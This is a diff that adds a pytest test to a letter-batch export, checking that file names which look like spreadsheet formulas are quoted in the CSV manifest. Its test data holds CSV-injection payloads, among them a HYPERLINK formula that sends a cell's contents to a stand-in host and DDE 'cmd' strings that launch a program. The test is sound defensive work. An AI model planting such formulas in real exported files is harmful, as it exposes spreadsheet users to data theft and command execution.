@@ -221,6 +221,34 @@ def test_the_batch_prints_the_archived_bytes(tmp_path: Path) -> None:
     assert letter.file.file_state is FileState.GRACE_PERIOD
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "＝1+1",
+    ],
+    ids=["equals", "plus", "minus", "at", "tab", "full_width_equals"],
+)
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_manifest(
+    tmp_path: Path, name: str
+) -> None:
+    new_file(name=name)
+    run(MONDAY)
+
+    result = run_letters_batch(run_date=MONDAY, out_dir=tmp_path)
+
+    assert result.batch is not None
+    [row] = manifest_rows((tmp_path / "post-2025-03-03-1.csv").read_bytes())
+    # Prefixed with a quote, a spreadsheet shows the text (OWASP, "CSV Injection"); the
+    # numbers of the row stay numbers.
+    assert row["address"] == f"'{name} / Rue Haute 12 / 1000 Bruxelles"
+    assert (row["position"], row["first_page"]) == ("1", "1")
+
+
 def follow_up_letters(file: File) -> list[SentLetter]:
     return list(SentLetter.objects.filter(file=file, kind="follow_up_reminder").order_by("pk"))
 
